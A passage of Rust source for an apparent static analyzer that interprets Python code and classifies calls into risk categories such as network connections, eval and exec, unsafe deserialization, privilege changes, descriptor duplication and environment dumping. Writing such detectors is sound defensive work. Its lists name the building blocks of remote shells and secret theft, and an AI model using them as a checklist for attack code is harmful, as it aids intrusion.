        "pathlib.Path.home" | "pathlib.PosixPath.home" => PathHome,
        "pathlib.Path.cwd" | "pathlib.PosixPath.cwd" => PathCwd,
        "os.path.join" => Join,
        "os.path.expanduser" => Expanduser,
        "os.path.expandvars" => Expandvars,
        "os.path.abspath" | "os.path.realpath" | "os.path.normpath" => Abspath,
        "os.path.dirname" => Dirname,
        "os.path.basename" => Basename,
        "os.getcwd" | "os.getcwdb" => Getcwd,
        "os.getenv" | "os.environ.get" | "os.getenvb" => Getenv,
        "os.environ.items" | "os.environ.keys" | "os.environ.values" => EnvDump,
        "shutil.which" => Which,
        "tempfile.gettempdir" => TempDir,
        "tempfile.mkdtemp" => MkdTemp,
        "tempfile.mkstemp" => MksTemp,
        "os.getpid" => Getpid,
        "os.getppid" => Getppid,
        "socket.gethostname" | "socket.getfqdn" | "platform.node" => Hostname,
        "base64.b64decode"
        | "base64.standard_b64decode"
        | "base64.urlsafe_b64decode"
        | "base64.decodebytes"
        | "base64.decodestring"
        | "binascii.a2b_base64" => Decode(Dec::B64),
        "bytes.fromhex" | "bytearray.fromhex" | "binascii.unhexlify" | "binascii.a2b_hex"
        | "base64.b16decode" => Decode(Dec::Hex),
        "codecs.decode" => Decode(Dec::Codecs),
        "str"
        | "os.fspath"
        | "os.fsdecode"
        | "os.fsencode"
        | "sqlalchemy.text"
        | "sqlalchemy.sql.text" => Str,
        "bytes" | "bytearray" => Bytes,
        "chr" => Chr,
        "ord" => Ord,
        "int" => Int,
        "list" | "tuple" | "sorted" | "set" | "frozenset" | "iter" => List,
        "enumerate" => Enumerate,
        "zip" => Zip,
        "reversed" => Reversed,
        "map" => Map,
        "getattr" => Getattr,
        "__import__" => Import { full: false },
        "importlib.import_module" | "importlib.__import__" => Import { full: true },
        "globals" | "locals" => Globals,
        "vars" => Vars,
        "socket.socket" | "socket.fromfd" => Socket,
        "socket.create_connection" => SockConnect,
        "socket.create_server" => SockServer,
        "socket.gethostbyname" | "socket.gethostbyname_ex" | "socket.getaddrinfo" => Dns,
        "urllib.request.urlopen"
        | "requests.get"
        | "requests.post"
        | "requests.put"
        | "requests.patch"
        | "requests.delete"
        | "requests.head"
        | "requests.options" => Url(0, "http"),
        "httpx.get" | "httpx.post" | "httpx.put" | "httpx.patch" | "httpx.delete"
        | "httpx.head" | "httpx.options" => Url(0, "http"),
        "requests.request" | "httpx.request" | "httpx.stream" => Url(1, "http"),
        "webbrowser.open" | "webbrowser.open_new" | "webbrowser.open_new_tab" => {
            Url(0, "webbrowser")
        }
        "xmlrpc.client.ServerProxy" | "xmlrpclib.ServerProxy" => Url(0, "xmlrpc"),
        "websocket.create_connection"
        | "websocket.WebSocketApp"
        | "websockets.connect"
        | "websockets.client.connect" => Url(0, "websocket"),
        "pandas.read_csv"
        | "pandas.read_json"
        | "pandas.read_excel"
        | "pandas.read_parquet"
        | "pandas.read_table"
        | "pandas.read_html"
        | "pandas.read_xml"
        | "pandas.read_fwf" => DataRead,
        "http.client.HTTPConnection" | "httplib.HTTPConnection" => HttpConn(80),
        "http.client.HTTPSConnection" | "httplib.HTTPSConnection" => HttpConn(443),
        "requests.Session" | "requests.session" => HttpSession("requests"),
        "httpx.Client" | "httpx.AsyncClient" => HttpSession("httpx"),
        "aiohttp.ClientSession" => HttpSession("aiohttp"),
        "urllib3.PoolManager" => HttpSession("urllib3"),
        "urllib.request.build_opener" => HttpSession("urllib"),
        "urllib.request.Request" => Request,
        "ftplib.FTP" => HostClient(21, "ftplib"),
        "ftplib.FTP_TLS" => HostClient(21, "ftplib"),
        "smtplib.SMTP" | "smtplib.LMTP" => HostClient(25, "smtplib"),
        "smtplib.SMTP_SSL" => HostClient(465, "smtplib"),
        "poplib.POP3" => HostClient(110, "poplib"),
        "poplib.POP3_SSL" => HostClient(995, "poplib"),
        "imaplib.IMAP4" => HostClient(143, "imaplib"),
        "imaplib.IMAP4_SSL" => HostClient(993, "imaplib"),
        "telnetlib.Telnet" => HostClient(23, "telnetlib"),
        "nntplib.NNTP" => HostClient(119, "nntplib"),
        "pysftp.Connection" | "fabric.Connection" => HostClient(22, "ssh"),
        "paramiko.SSHClient" | "paramiko.client.SSHClient" => SshClient,
        "paramiko.Transport" => SshTransport,
        "boto3.client" | "boto3.resource" => Boto,
        "git.Repo.clone_from" => CloneFrom,
        "pip.main" | "pip._internal.main" | "pip._internal.cli.main.main" => Pip,
        "eval" => Eval("eval"),
        "exec" | "execfile" => Eval("exec"),
        "compile" => Compile,
        "runpy.run_path" => RunPath,
        "runpy.run_module" => RunModule,
        "importlib.util.spec_from_file_location"
        | "importlib.machinery.SourceFileLoader"
        | "imp.load_source" => LoadSource,
        "pickle.load"
        | "pickle.loads"
        | "pickle.Unpickler"
        | "marshal.load"
        | "marshal.loads"
        | "shelve.open"
        | "jsonpickle.decode"
        | "jsonpickle.loads"
        | "yaml.unsafe_load"
        | "yaml.unsafe_load_all"
        | "joblib.load"
        | "pandas.read_pickle" => Unsafe,
        "yaml.load" | "yaml.load_all" => Yaml,
        "torch.load" => Torch,
        "numpy.load" => NumpyLoad,
        "cffi.FFI" => Native,
        "os.setuid" | "os.setgid" | "os.seteuid" | "os.setegid" | "os.setreuid" | "os.setregid"
        | "os.setresuid" | "os.setresgid" | "os.setgroups" | "os.initgroups" | "os.chroot"
        | "os.setns" | "os.unshare" => Priv,
        "os.kill" | "signal.pthread_kill" => Kill,
        "os.dup2" => Dup2,
        "os.killpg" => KillPg,
        "psutil.Process" => PsProcess,
        "psutil.process_iter" => PsIter,
        "crontab.CronTab" => CronTab,
        "threading.Thread" | "threading.Timer" | "multiprocessing.Process" => Spawn,
        "threading.start_new_thread" | "threading.start_new" => StartThread,
        "sqlite3.connect" | "aiosqlite.connect" | "sqlite3.dbapi2.connect" => DbConnect(Db::Sqlite),
        "psycopg2.connect"
        | "psycopg.connect"
        | "asyncpg.connect"
        | "pg8000.connect"
        | "psycopg.AsyncConnection.connect" => DbConnect(Db::Server(5432)),
        "pymysql.connect" | "MySQLdb.connect" | "mysql.connector.connect" => {
            DbConnect(Db::Server(3306))
        }
        "sqlalchemy.create_engine" | "sqlalchemy.ext.asyncio.create_async_engine" => {
            DbConnect(Db::Url)
        }
        "pandas.read_sql" | "pandas.read_sql_query" => ReadSql,
        "itertools.count" | "itertools.cycle" => Endless,
        "itertools.repeat" => Repeat,
        "shlex.split" => ShlexSplit,
        "shlex.quote" | "pipes.quote" => ShlexQuote,
        "shlex.join" => ShlexJoin,
        "filter" | "functools.reduce" => Map,
        "asyncio.open_connection" | "telnetlib3.open_connection" => HostPort("socket.connect"),
        "urllib3.request" => Url(1, "http"),
        "scapy.all.send"
        | "scapy.all.sendp"
        | "scapy.all.sr"
        | "scapy.all.sr1"
        | "scapy.all.srp"
        | "scapy.all.srp1"
        | "scapy.sendrecv.send"
        | "scapy.sendrecv.sr1" => Raw,
        "tempfile.NamedTemporaryFile"
        | "tempfile.TemporaryFile"
        | "tempfile.SpooledTemporaryFile" => TempFile,
        "tempfile.TemporaryDirectory" => MkdTemp,
        "http.server.HTTPServer"
        | "http.server.ThreadingHTTPServer"
        | "socketserver.TCPServer"
        | "socketserver.ThreadingTCPServer"
        | "socketserver.UDPServer" => SockServer,
        _ => {
            if let Some(rest) = q.strip_prefix("ctypes.") {
                let last = rest.rsplit('.').next().unwrap_or(rest);
                let safe = last.starts_with("c_")
                    || matches!(
                        last,
                        "Structure"
                            | "Union"
                            | "POINTER"
                            | "pointer"
                            | "byref"
                            | "sizeof"
                            | "create_string_buffer"
                            | "create_unicode_buffer"
                            | "Array"
                            | "addressof"
                            | "alignment"
                            | "find_library"
                            | "get_errno"
                    );
                if safe {
                    return None;
                }
                return Some(Native);
            }
            return None;
        }
    })
}

/// Modules whose attributes fetched by computed name are suspicious.
fn sensitive_module(q: &str) -> bool {
    let head = q.split('.').next().unwrap_or(q);
    matches!(
        head,
        "os" | "subprocess"
            | "shutil"
            | "sys"
            | "importlib"
            | "ctypes"
            | "pty"
            | "socket"
            | "builtins"
            | "commands"
            | "pickle"
            | "marshal"
    ) || kind(q).is_some()
}

fn is_db_module(m: &str) -> bool {
    let head = m.split('.').next().unwrap_or(m);
    matches!(
        head,
        "sqlite3"
            | "psycopg2"
            | "psycopg"
            | "pymysql"
            | "MySQLdb"
            | "mysql"
            | "sqlalchemy"
            | "aiosqlite"
            | "asyncpg"
            | "duckdb"
            | "pyodbc"
            | "cx_Oracle"
            | "oracledb"
            | "pg8000"
    )
}

// ---------------------------------------------------------------------------
// The walker

struct Args<'a> {
    pos: Vec<V>,
    kw: Vec<(&'a str, V)>,
    /// `**kwargs` was passed: absent keywords are unknown, not defaults.
    star_kw: bool,
}

impl<'a> Args<'a> {
    fn new(pos: Vec<V>) -> Self {
        Args {
            pos,
            kw: Vec::new(),
            star_kw: false,
        }
    }
    fn kw(&self, name: &str) -> Option<&V> {
        self.kw.iter().find(|(k, _)| *k == name).map(|(_, v)| v)
    }
    fn arg(&self, i: usize, name: &str) -> Option<&V> {
        self.kw(name).or_else(|| self.pos.get(i))
    }
}

enum Body<'a> {
    Block(&'a [Stmt]),
    Expr(&'a Expr),
}

struct Func<'a> {
    key: usize,
    params: Option<&'a ast::Parameters>,
    body: Body<'a>,
    defaults: Vec<(&'a str, V)>,
    /// The class this function is a method of.
    class: Option<usize>,
    analyzed: bool,
    escaped: bool,
    escaped_done: bool,
}

#[derive(Default)]
struct Frame {
    vars: Vec<(String, V)>,
    globals: Vec<String>,
    ret: Option<V>,
}

impl Frame {
    fn get(&self, name: &str) -> Option<&V> {
        self.vars.iter().find(|(k, _)| k == name).map(|(_, v)| v)
    }
    fn set(&mut self, name: &str, v: V) {
        if let Some(slot) = self.vars.iter_mut().find(|(k, _)| k == name) {
            slot.1 = v;
        } else {
            self.vars.push((name.to_string(), v));
        }
    }
    fn unset(&mut self, name: &str) {
        self.vars.retain(|(k, _)| k != name);
    }
}

/// A branch of an `if`/`try`/`match`.
enum Br<'a> {
    Body(&'a [Stmt]),
    Clause(&'a ast::ElifElseClause),
    Handler(&'a ast::ExceptHandlerExceptHandler),
    Case(&'a ast::MatchCase),
}

/// A function analyzed with these bound parameters returned this.
type Memo = (usize, u64, Vec<(String, V)>, V);

struct Walker<'a, 'c, 'x> {
    c: &'c mut Collector<'x>,
    ctx: &'x Context,
    cwd: String,
    cwd_known: bool,
    frames: Vec<Frame>,
    funcs: Vec<Func<'a>>,
    /// Classes of this code: the names their bodies bind.
    classes: Vec<Vec<(String, V)>>,
    /// Instances: class and attributes.
    objs: Vec<(usize, Vec<(String, V)>)>,
    stars: Vec<String>,
    db: Option<String>,
    db_api: bool,
    stack: Vec<usize>,
    budget: u32,
    whiles: u32,
    nest: u32,
    exec_depth: usize,
    memo: Vec<Memo>,
    /// Operations (or nested analyses) this walker produced.
    effects: usize,
    /// Nodes visited, to bound the work spent beyond one pass.
    work: u64,
    /// A file's content interpolated into the f-string being built.
    carried: Option<V>,
    /// Counts changes to module names and object attributes: a function's
    /// analysis is reused only while they are unchanged.
    generation: u64,
    /// The host last connected to, for data sent later on the connection.
    last_host: Option<String>,
}

impl<'a, 'c, 'x> Walker<'a, 'c, 'x> {
    fn new(c: &'c mut Collector<'x>, cwd: &str, exec_depth: usize, nest: u32) -> Self {
        let ctx = c.ctx;
        Walker {
            c,
            ctx,
            cwd: cwd.to_string(),
            cwd_known: true,
            frames: vec![Frame::default()],
            funcs: Vec::new(),
            classes: Vec::new(),
            objs: Vec::new(),
            stars: Vec::new(),
            db: None,
            db_api: false,
            stack: Vec::new(),
            budget: CALL_BUDGET,
            whiles: 0,
            nest,
            exec_depth,
            memo: Vec::new(),
            effects: 0,
            work: 0,
            carried: None,
            generation: 0,
            last_host: None,
        }
    }

    fn opaque(&mut self, reason: impl Into<String>) {
        self.push(Op::opaque(reason));
    }

    fn push(&mut self, op: Op) {
        self.effects += 1;
        self.c.push(op);
    }

    fn nested(&mut self, lang: Lang, code: &str, cwd: &str, db: Option<&str>) {
        self.effects += 1;
        #[cfg(test)]
        tests::NESTED.with(|n| {
            n.borrow_mut().push((
                lang,
                code.to_string(),
                cwd.to_string(),
                db.map(str::to_string),
            ))
        });
        self.c.nested(lang, code, cwd, db);
    }

    fn script_ref(&mut self, path: String, lang: Lang) {
        self.effects += 1;
        self.c.script(path, lang);
    }

    fn module(&mut self, body: &'a [Stmt]) {
        self.block(body);
        self.finish();
    }

    /// Analyze functions never called (or called from where their arguments
    /// are unknown) with unknown parameters.
    fn finish(&mut self) {
        loop {
            let mut changed = false;
            let mut i = 0;
            while i < self.funcs.len() {
                if !self.funcs[i].analyzed {
                    changed = true;
                    // A method never called: `self` is one of its class's
                    // instances, when there are some.
                    let selves: Vec<V> = match self.funcs[i].class {
                        Some(ci) => (0..self.objs.len())
                            .filter(|&o| self.objs[o].0 == ci)
                            .map(V::Obj)
                            .collect(),
                        None => Vec::new(),
                    };
                    if selves.is_empty() {
                        self.run_func(i, None);
                    } else {
                        self.run_func(i, Some(Args::new(vec![alt(selves)])));
                    }
                }
                if self.funcs[i].escaped && !self.funcs[i].escaped_done {
                    changed = true;
                    self.funcs[i].escaped_done = true;
                    self.run_func(i, Some(Args::new(Vec::new())));
                }
                i += 1;
            }
            if !changed {
                break;
            }
        }
    }

    // --- names -----------------------------------------------------------

    fn frame_for(&self, name: &str) -> usize {
        let top = self.frames.len().saturating_sub(1);
        if top > 0 && self.frames[top].globals.iter().any(|g| g == name) {
            0
        } else {
            top
        }
    }

    fn set_var(&mut self, name: &str, v: V) {
        let i = self.frame_for(name);
        if i == 0 {
            self.generation += 1;
        }
        if let Some(f) = self.frames.get_mut(i) {
            f.set(name, v);
        }
    }

    fn local(&self, name: &str) -> Option<V> {
        self.frames.get(self.frame_for(name))?.get(name).cloned()
    }

    fn lookup(&self, name: &str) -> V {
        if let Some(f) = self.frames.last()
            && let Some(v) = f.get(name)
        {
            return v.clone();
        }
        if self.frames.len() > 1
            && let Some(v) = self.frames[0].get(name)
        {
            return v.clone();
        }
        for m in self.stars.iter().rev() {
            let q = norm_qual(&format!("{m}.{name}"));
            if kind(&q).is_some() {
                return V::Sym(q);
            }
        }
        match name {
            "__builtins__" | "builtins" => V::Sym("builtins".into()),
            "__file__" => text(format!("{}/{SEG}", self.cwd.trim_end_matches('/'))),
            "__name__" => V::Str("__main__".into()),
            _ if kind(name).is_some() => V::Sym(name.to_string()),
            _ => V::Unknown,
        }
    }

    fn snapshot(&self, names: &[&str]) -> Vec<Option<V>> {
        names.iter().map(|n| self.local(n)).collect()
    }

    fn restore(&mut self, names: &[&str], vals: &[Option<V>]) {
        for (n, v) in names.iter().zip(vals) {
            let i = self.frame_for(n);
            if let Some(f) = self.frames.get_mut(i) {
                match v {
                    Some(v) => f.set(n, v.clone()),
                    None => f.unset(n),
                }
            }
        }
    }

    fn assign(&mut self, target: &'a Expr, v: V) {
        match target {
            Expr::Name(n) => self.set_var(n.id.as_str(), v),
            Expr::Tuple(ast::ExprTuple { elts, .. }) | Expr::List(ast::ExprList { elts, .. }) => {
                let starred = elts.iter().any(|e| matches!(e, Expr::Starred(_)));
                match v {
                    V::Seq(xs) if !starred && xs.len() == elts.len() => {
                        for (t, x) in elts.iter().zip(xs) {
                            self.assign(t, x);
                        }
                    }
                    _ => {
                        for t in elts {
                            self.assign(t, V::Unknown);
                        }
                    }
                }
            }
            Expr::Starred(s) => self.assign(&s.value, V::Unknown),
            Expr::Attribute(a) => {
                let base = self.eval(&a.value);
                if let V::Obj(id) = base
                    && let Some((_, attrs)) = self.objs.get_mut(id)
                {
                    let name = a.attr.as_str();
                    self.generation += 1;
                    match attrs.iter_mut().find(|(k, _)| k == name) {
                        Some(slot) => slot.1 = v,
                        None => attrs.push((name.to_string(), v)),
                    }
                    return;
                }
                if let V::Func(i) = v
                    && let Some(f) = self.funcs.get_mut(i)
                {
                    f.escaped = true;
                }
            }
            Expr::Subscript(s) => {
                self.eval(&s.value);
                self.eval(&s.slice);
                if let Expr::Name(n) = &*s.value
                    && matches!(self.local(n.id.as_str()), Some(V::Seq(_)))
                {
                    self.set_var(n.id.as_str(), V::Unknown);
                }
            }
            _ => {}
        }
    }

    // --- statements ------------------------------------------------------

    fn enter(&mut self) -> bool {
        if self.nest >= MAX_NEST {
            self.opaque("python nests too deeply to inspect");
            return false;
        }
        self.nest += 1;
        self.work += 1;
        true
    }

    /// Still worth analyzing calls with their arguments and unrolling?
    fn spare(&self) -> bool {
        self.work < WORK_LIMIT
    }

    fn block(&mut self, body: &'a [Stmt]) {
        for s in body {
            self.stmt(s);
        }
    }

    fn stmt(&mut self, s: &'a Stmt) {
        if !self.enter() {
            return;
        }
        self.stmt_inner(s);
        self.nest -= 1;
    }

    fn stmt_inner(&mut self, s: &'a Stmt) {
        match s {
            Stmt::Delete(_) | Stmt::TypeAlias(_) | Stmt::Pass(_) | Stmt::Break(_) => {}
            Stmt::Continue(_) | Stmt::Nonlocal(_) | Stmt::IpyEscapeCommand(_) => {}
            Stmt::Assign(a) => {
                let v = self.eval(&a.value);
                for t in &a.targets {
                    self.assign(t, v.clone());
                }
            }
            Stmt::AnnAssign(a) => {
                if let Some(v) = &a.value {
                    let v = self.eval(v);
                    self.assign(&a.target, v);
                }
            }
            Stmt::For(f) => {
                let it = self.eval(&f.iter);
                if it == V::Endless && !exits(&f.body, false) {
                    self.opaque("unbounded loop: iterates an endless iterator without break");
                }
                let elem = self.iter_of(&it);
                self.looped(Some((&f.target, elem)), &f.body);
                self.block(&f.orelse);
            }
            Stmt::While(w) => {
                self.eval(&w.test);
                if always_true(&w.test) && !exits(&w.body, false) {
                    self.opaque("unbounded loop: while True without break or return");
                }
                self.whiles += 1;
                self.looped(None, &w.body);
                self.eval(&w.test);
                self.whiles -= 1;
                self.block(&w.orelse);
            }
            Stmt::If(i) => {
                self.eval(&i.test);
                let mut brs = Vec::with_capacity(1 + i.elif_else_clauses.len());
                brs.push(Br::Body(&i.body));
                let exhaustive = i.elif_else_clauses.last().is_some_and(|c| c.test.is_none());
                for c in &i.elif_else_clauses {
                    brs.push(Br::Clause(c));
                }
                self.branches(&brs, exhaustive);
            }
            Stmt::With(w) => {
                for item in &w.items {
                    let v = self.eval(&item.context_expr);
                    if let Some(t) = &item.optional_vars {
                        self.assign(t, v);
                    }
                }
                self.block(&w.body);
            }
            Stmt::Match(m) => {
                self.eval(&m.subject);
                let brs: Vec<Br<'a>> = m.cases.iter().map(Br::Case).collect();
                self.branches(&brs, false);
            }
            Stmt::Raise(r) => {
                if let Some(e) = &r.exc {
                    self.eval(e);
                }
                if let Some(e) = &r.cause {
                    self.eval(e);
                }
            }
            Stmt::Try(t) => {
                self.block(&t.body);
                let mut brs = Vec::with_capacity(1 + t.handlers.len());
                brs.push(Br::Body(&t.orelse));
                for h in &t.handlers {
                    let ExceptHandler::ExceptHandler(h) = h;
                    brs.push(Br::Handler(h));
                }
                self.branches(&brs, true);
                self.block(&t.finalbody);
            }
            Stmt::Assert(a) => {
                self.eval(&a.test);
                if let Some(m) = &a.msg {
                    self.eval(m);
                }
            }
            Stmt::Expr(e) => {
                self.eval(&e.value);
            }
            _ => self.stmt_rest(s),
        }
    }

    #[inline(never)]
    fn stmt_rest(&mut self, s: &'a Stmt) {
        match s {
            Stmt::FunctionDef(f) => {
                for d in &f.decorator_list {
                    self.eval(&d.expression);
                }
                let defaults = self.defaults(&f.parameters);
                let i = self.register(
                    std::ptr::from_ref(f) as usize,
                    Some(&f.parameters),
                    Body::Block(&f.body),
                    defaults,
                );
                self.set_var(f.name.as_str(), V::Func(i));
            }
            Stmt::ClassDef(cd) => {
                for d in &cd.decorator_list {
                    self.eval(&d.expression);
                }
                if let Some(a) = &cd.arguments {
                    for e in a.args.iter() {
                        self.eval(e);
                    }
                    for k in &a.keywords {
                        self.eval(&k.value);
                    }
                }
                self.frames.push(Frame::default());
                self.block(&cd.body);
                let vars = self.frames.pop().map(|f| f.vars).unwrap_or_default();
                let ci = self.classes.len();
                for (_, v) in &vars {
                    if let V::Func(i) = v
                        && let Some(f) = self.funcs.get_mut(*i)
                    {
                        f.class = Some(ci);
                    }
                }
                self.classes.push(vars);
                self.set_var(cd.name.as_str(), V::Class(ci));
            }
            Stmt::Return(r) => {
                let v = match &r.value {
                    Some(e) => self.eval(e),
                    None => V::None,
                };
                if self.frames.len() > 1
                    && let Some(f) = self.frames.last_mut()
                {
                    f.ret = Some(match f.ret.take() {
                        None => v,
                        Some(old) => merge(old, v),
                    });
                }
            }
            Stmt::AugAssign(a) => {
                let r = self.eval(&a.value);
                match &*a.target {
                    Expr::Name(n) => {
                        let cur = self.lookup(n.id.as_str());
                        let v = self.binop(cur, a.op, r);
                        self.set_var(n.id.as_str(), v);
                    }
                    t => self.assign(t, V::Unknown),
                }
            }
            Stmt::Import(i) => {
                for a in &i.names {
                    let full = norm_qual(a.name.as_str());
                    if is_db_module(&full) {
                        self.db_api = true;
                    }
                    match &a.asname {
                        Some(asn) => self.set_var(asn.as_str(), V::Sym(full)),
                        None => {
                            let head = a.name.as_str().split('.').next().unwrap_or("");
                            self.set_var(head, V::Sym(norm_qual(head)));
                        }
                    }
                }
            }
            Stmt::ImportFrom(i) => {
                let module = i.module.as_ref().map(|m| m.as_str()).unwrap_or("");
                if is_db_module(module) {
                    self.db_api = true;
                }
                for a in &i.names {
                    let name = a.name.as_str();
                    if i.level > 0 || module.is_empty() {
                        let bind = a.asname.as_ref().map_or(name, |x| x.as_str());
                        if name != "*" {
                            self.set_var(bind, V::Unknown);
                        }
                        continue;
                    }
                    if name == "*" {
                        self.stars.push(norm_qual(module));
                        continue;
                    }
                    let bind = a.asname.as_ref().map_or(name, |x| x.as_str());
                    self.set_var(bind, V::Sym(norm_qual(&format!("{module}.{name}"))));
                }
            }
            Stmt::Global(g) => {
                if let Some(f) = self.frames.last_mut() {
                    for n in &g.names {
                        f.globals.push(n.as_str().to_string());
                    }
                }
            }
            _ => {}
        }
    }

    /// Walk a loop body: names it assigns may hold any iteration's value.
    fn looped(&mut self, target: Option<(&'a Expr, V)>, body: &'a [Stmt]) {
        let mut names: Vec<&'a str> = Vec::new();
        assigned(body, &mut names);
        if let Some((t, _)) = &target {
            target_names(t, &mut names);
        }
        names.sort_unstable();
        names.dedup();
        let pre = self.snapshot(&names);
        for n in &names {
            if self.local(n).is_some() {
                self.set_var(n, V::Unknown);
            }
        }
        if let Some((t, v)) = target {
            self.assign(t, v);
        }
        self.block(body);
        let post = self.snapshot(&names);
        let merged: Vec<Option<V>> = pre
            .into_iter()
            .zip(post)
            .map(|(a, b)| merge_opt(a, b))
            .collect();
        self.restore(&names, &merged);
    }

    fn branches(&mut self, brs: &[Br<'a>], exhaustive: bool) {
        let mut names: Vec<&'a str> = Vec::new();
        for b in brs {
            match b {
                Br::Body(body) => assigned(body, &mut names),
                Br::Clause(c) => assigned(&c.body, &mut names),
                Br::Handler(h) => {
                    if let Some(n) = &h.name {
                        names.push(n.as_str());
                    }
                    assigned(&h.body, &mut names);
                }
                Br::Case(c) => {
                    pattern_names(&c.pattern, &mut names);
                    assigned(&c.body, &mut names);
                }
            }
        }
        if names.is_empty() {
            for b in brs {
                self.run_branch(b);
            }
            return;
        }
        names.sort_unstable();
        names.dedup();
        let pre = self.snapshot(&names);
        let mut acc: Option<Vec<Option<V>>> = if exhaustive { None } else { Some(pre.clone()) };
        for b in brs {
            self.restore(&names, &pre);
            self.run_branch(b);
            let post = self.snapshot(&names);
            acc = Some(match acc {
                None => post,
                Some(a) => a
                    .into_iter()
                    .zip(post)
                    .map(|(x, y)| merge_opt(x, y))
                    .collect(),
            });
        }
        if let Some(a) = acc {
            self.restore(&names, &a);
        }
    }

    fn run_branch(&mut self, b: &Br<'a>) {
        match b {
            Br::Body(body) => self.block(body),
            Br::Clause(c) => {
                if let Some(t) = &c.test {
                    self.eval(t);
                }
                self.block(&c.body);
            }
            Br::Handler(h) => {
                if let Some(t) = &h.type_ {
                    self.eval(t);
                }
                if let Some(n) = &h.name {
                    self.set_var(n.as_str(), V::Unknown);
                }
                self.block(&h.body);
            }
            Br::Case(c) => {
                let mut names = Vec::new();
                pattern_names(&c.pattern, &mut names);
                for n in names {
                    self.set_var(n, V::Unknown);
                }
                self.pattern_values(&c.pattern);
                if let Some(g) = &c.guard {
                    self.eval(g);
                }
                self.block(&c.body);
            }
        }
    }

    fn pattern_values(&mut self, p: &'a Pattern) {
        match p {
            Pattern::MatchValue(v) => {
                self.eval(&v.value);
            }
            Pattern::MatchSequence(s) => {
                for p in &s.patterns {
                    self.pattern_values(p);
                }
            }
            Pattern::MatchMapping(m) => {
                for k in &m.keys {
                    self.eval(k);
                }
                for p in &m.patterns {
                    self.pattern_values(p);
                }
            }
            Pattern::MatchClass(c) => {
                self.eval(&c.cls);
                for p in &c.arguments.patterns {
                    self.pattern_values(p);
                }
                for k in &c.arguments.keywords {
                    self.pattern_values(&k.pattern);
                }
            }
            Pattern::MatchAs(a) => {
                if let Some(p) = &a.pattern {
                    self.pattern_values(p);
                }
            }
            Pattern::MatchOr(o) => {
                for p in &o.patterns {
                    self.pattern_values(p);
                }
            }
            Pattern::MatchSingleton(_) | Pattern::MatchStar(_) => {}
        }
    }

    // --- functions -------------------------------------------------------

    fn defaults(&mut self, params: &'a ast::Parameters) -> Vec<(&'a str, V)> {
        let mut out = Vec::new();
        for p in params
            .posonlyargs
            .iter()
            .chain(params.args.iter())
            .chain(params.kwonlyargs.iter())
        {
            if let Some(d) = &p.default {
                let v = self.eval(d);
                out.push((p.parameter.name.as_str(), v));
            }
        }
        out
    }

    fn register(
        &mut self,
        key: usize,
        params: Option<&'a ast::Parameters>,
        body: Body<'a>,
        defaults: Vec<(&'a str, V)>,
    ) -> usize {
        if let Some(i) = self.funcs.iter().position(|f| f.key == key) {
            self.funcs[i].defaults = defaults;
            return i;
        }
        self.funcs.push(Func {
            key,
            params,
            body,
            defaults,
            class: None,
            analyzed: false,
            escaped: false,
            escaped_done: false,
        });
        self.funcs.len() - 1
    }

    fn call_func(&mut self, i: usize, args: Args<'a>) -> V {
        if i >= self.funcs.len() {
            return V::Unknown;
        }
        if self.stack.contains(&i)
            || self.stack.len() >= CALL_DEPTH
            || self.budget == 0
            || !self.spare()
            || self.nest + 40 > MAX_NEST
        {
            self.funcs[i].escaped = true;
            return V::Unknown;
        }
        self.budget -= 1;
        self.run_func(i, Some(args))
    }

    /// Analyze a function body with `args` bound (`None`: its defaults, the
    /// rest unknown).
    fn run_func(&mut self, i: usize, args: Option<Args<'a>>) -> V {
        let Some(f) = self.funcs.get_mut(i) else {
            return V::Unknown;
        };
        f.analyzed = true;
        let params = f.params;
        let use_defaults = args.is_none();
        let args = args.unwrap_or_else(|| Args::new(Vec::new()));
        let mut frame = Frame::default();
        if let Some(p) = params {
            let positional: Vec<&'a ast::ParameterWithDefault> =
                p.posonlyargs.iter().chain(p.args.iter()).collect();
            let mut pos = args.pos.into_iter();
            for pd in &positional {
                let name = pd.parameter.name.as_str();
                let v = match pos.next() {
                    Some(v) => Some(v),
                    None => args
                        .kw
                        .iter()
                        .find(|(k, _)| *k == name)
                        .map(|(_, v)| v.clone()),
                };
                let v =
                    v.unwrap_or_else(|| self.default_of(i, name, use_defaults || !args.star_kw));
                frame.set(name, v);
            }
            if let Some(va) = &p.vararg {
                let rest: Vec<V> = pos.collect();
                frame.set(va.name.as_str(), V::Seq(rest));
            }
            for pd in p.kwonlyargs.iter() {
                let name = pd.parameter.name.as_str();
                let v = args
                    .kw
                    .iter()
                    .find(|(k, _)| *k == name)
                    .map(|(_, v)| v.clone())
                    .unwrap_or_else(|| self.default_of(i, name, use_defaults || !args.star_kw));
                frame.set(name, v);
            }
            if let Some(kwa) = &p.kwarg {
                frame.set(kwa.name.as_str(), V::Unknown);
            }
        }
        let generation = self.generation;
        if let Some((.., ret)) = self
            .memo
            .iter()
            .find(|(fi, g, vars, _)| *fi == i && *g == generation && *vars == frame.vars)
        {
            return ret.clone();
        }
        let key_vars = frame.vars.clone();
        self.frames.push(frame);
        self.stack.push(i);
        let saved_whiles = self.whiles;
        self.whiles = 0;
        let ret = match self.funcs[i].body {
            Body::Block(b) => {
                self.block(b);
                None
            }
            Body::Expr(e) => Some(self.eval(e)),
        };
        self.whiles = saved_whiles;
        self.stack.pop();
        let frame = self.frames.pop().unwrap_or_default();
        let ret = ret.or(frame.ret).unwrap_or(V::None);
        if self.memo.len() < 256 {
            self.memo.push((i, generation, key_vars, ret.clone()));
        }
        ret
    }

    fn default_of(&self, i: usize, name: &str, use_defaults: bool) -> V {
        if !use_defaults {
            return V::Unknown;
        }
        self.funcs
            .get(i)
            .and_then(|f| f.defaults.iter().find(|(k, _)| *k == name))
            .map_or(V::Unknown, |(_, v)| v.clone())
    }

    // --- expressions -----------------------------------------------------

    fn eval(&mut self, e: &'a Expr) -> V {
        if !self.enter() {
            return V::Unknown;
        }
        let v = self.eval_inner(e);
        self.nest -= 1;
        v
    }

    fn eval_inner(&mut self, e: &'a Expr) -> V {
        // The hot, recursive cases; the rest in `eval_rest` keeps this frame small.
        match e {
            Expr::NumberLiteral(n) => match &n.value {
                Number::Int(i) => V::Int(i.as_i64().unwrap_or(i64::MAX)),
                _ => V::Unknown,
            },
            Expr::BooleanLiteral(b) => V::Bool(b.value),
            Expr::NoneLiteral(_) => V::None,
            Expr::Name(n) => self.lookup(n.id.as_str()),
            Expr::Attribute(a) => {
                let base = self.eval(&a.value);
                self.attr(base, a.attr.as_str())
            }
            Expr::Subscript(s) => self.subscript(s),
            Expr::Call(c) => self.call_expr(c),
            Expr::BinOp(b) => self.binop_chain(b),
            Expr::List(ast::ExprList { elts, .. }) | Expr::Tuple(ast::ExprTuple { elts, .. }) => {
